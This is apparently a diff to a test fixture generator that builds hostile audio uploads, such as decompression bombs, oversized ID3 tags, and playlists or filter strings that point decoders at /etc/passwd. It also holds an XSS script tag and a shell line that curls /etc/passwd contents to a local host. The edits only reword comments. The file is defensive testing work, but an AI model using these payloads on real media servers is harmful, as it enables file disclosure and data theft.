@@ -16,18 +16,18 @@ const attacks = [
 ] as const;
 type Attack = (typeof attacks)[number];
 
-/** A file that is no honest song, and under which name and type it is uploaded. */
+/** A file that is not an honest song, with the name and type under which it is uploaded. */
 export interface HostileSong {
   readonly what: string;
   readonly attack: Attack;
   readonly name: string;
   readonly type: string;
   bytes(): Uint8Array<ArrayBuffer>;
-  /** There is sound in it, which may be played: then it must be harmless. Without it the file is refused. */
+  /** True if it contains sound and may be playable, but then must be harmless. Otherwise the file is refused. */
   readonly mayBePlayed?: boolean;
 }
 
-/** Formats that may be uploaded, with how their files begin. */
+/** Formats that may be uploaded, with the first bytes of their files. */
 const beginnings: Readonly<Record<string, readonly number[]>> = {
   mp3: [0xff, 0xfb, 0x90, 0x64],
   wav: [...ascii('RIFF'), 0xff, 0xff, 0xff, 0x7f, ...ascii('WAVEfmt ')],
@@ -50,7 +50,7 @@ const bytesOf = (...parts: readonly (string | readonly number[] | Uint8Array)[])
 const big32 = (value: number) => [value >>> 24, (value >>> 16) & 255, (value >>> 8) & 255, value & 255];
 const little32 = (value: number) => big32(value).reverse();
 
-/** Texts that make a decoder which follows them read other files or addresses. */
+/** Texts that make an unsafe decoder read other files or URLs. */
 const lists: Readonly<Record<string, string>> = {
   'an HLS playlist of files of the server':
     '#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nfile:///etc/passwd\nhttp://127.0.0.1:1/\n#EXT-X-ENDLIST\n',
@@ -67,7 +67,7 @@ const lists: Readonly<Record<string, string>> = {
   'an image sequence and a filter': 'movie=/etc/passwd,lavfi:amovie=/etc/hosts\n%d.png\n',
 };
 
-/** Other kinds of files in front of, behind or in the place of sound. */
+/** Other types of files in front of, behind or in place of sound. */
 const disguises: Readonly<Record<string, string>> = {
   'a page': '<!doctype html><script>alert(document.domain)</script>',
   'a script': '#!/bin/sh\ncurl http://127.0.0.1:1/$(cat /etc/passwd)\n',
@@ -98,8 +98,8 @@ const oddNames = [
 ] as const;
 
 /**
- * Seventy hostile files: playlists that name other files, wrong and cut off headers, bombs, huge tags, sound
- * with something else around it, odd names. Another seed makes others.
+ * Lists seventy hostile files: playlists that name other files, wrong and truncated headers, bombs, huge tags, sound
+ * with other data around it, odd names. Another seed makes others.
  * @param encoded a short song in each format, by its extension, of which broken ones are made
  */
 export function listHostileSongs(
@@ -184,8 +184,8 @@ export function listHostileSongs(
 }
 
 /**
- * Of hostile files a few that are of every kind of attack and of every format: for each kind up to two, of formats that take
- * turns.
+ * Draws a few hostile files that cover every kind of attack and every format: up to two per kind, with the formats in
+ * turn.
  */
 export function drawOfEachAttack(random: SeededRandom, songs: readonly HostileSong[]): HostileSong[] {
   const types = Object.values(mimeTypes).toSorted(() => random.next() - 0.5);
@@ -207,7 +207,7 @@ type MakeSong = (
   mayBePlayed?: boolean,
 ) => HostileFile;
 
-/** Small files that claim, or become, very much. */
+/** Small files that claim to be huge, or become so when decoded. */
 function bombs(song: MakeSong, sound: Uint8Array<ArrayBuffer>): HostileFile[] {
   const altered = (...changes: readonly (readonly [at: number, bytes: readonly number[]])[]) => {
     const wav = Uint8Array.from(sound);
@@ -241,9 +241,9 @@ function bombs(song: MakeSong, sound: Uint8Array<ArrayBuffer>): HostileFile[] {
   ];
 }
 
-/** Tags that claim, or have, far more than a title. */
+/** Tags that claim to be, or are, far larger than a title. */
 function hugeTags(song: MakeSong, sound: Uint8Array<ArrayBuffer>, mp3: Uint8Array): HostileFile[] {
-  /** A size in ID3's seven bits to a byte. */
+  /** Encodes an ID3 size, seven bits per byte. */
   const size = (bytes: number) => [bytes >>> 21, bytes >>> 14, bytes >>> 7, bytes].map((part) => part & 0x7f);
   const id3 = (frames: Uint8Array, claimed = frames.length) =>
     bytesOf('ID3', [4, 0, 0], size(claimed), frames, mp3);
